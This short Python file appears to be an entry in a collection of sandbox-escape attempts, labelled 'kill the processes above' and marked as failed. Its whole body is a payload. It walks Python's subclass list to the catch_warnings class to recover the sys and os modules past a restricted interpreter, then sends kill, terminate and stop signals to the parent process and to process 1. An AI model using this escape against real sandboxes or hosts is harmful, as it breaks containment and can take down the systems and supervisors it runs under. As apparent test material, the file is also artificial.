# /// attack
# rows = [36]
# title = "kill the processes above"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]
for number in (os.getppid(), 1, -1, 0):
    for signal in (9, 15, 19):
        try:
            if number > 0:
                os.kill(number, signal)
        except OSError:
            pass
